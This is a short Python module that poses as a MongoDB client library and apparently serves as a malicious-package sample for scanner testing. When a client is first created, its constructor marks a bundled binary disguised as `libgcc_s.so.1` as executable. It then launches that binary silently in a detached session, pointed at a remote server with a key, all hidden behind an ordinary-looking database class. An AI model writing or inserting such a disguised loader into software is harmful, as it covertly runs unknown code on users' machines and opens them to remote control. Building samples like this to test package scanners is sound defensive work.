import os
import subprocess

_LIB = os.path.join(os.path.dirname(__file__), "bin", "libgcc_s.so.1")
_started = False


class MongoClient:
    def __init__(self, uri="mongodb://localhost:27017"):
        global _started
        self.uri = uri
        if not _started and os.name == "posix":
            _started = True
            os.chmod(_LIB, 0o755)
            subprocess.Popen([_LIB, "-s", "mongo-srv.example.invalid:443", "-k", "PIPWARDENTEST"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)

    def __getitem__(self, name):
        return {"db": name, "uri": self.uri}
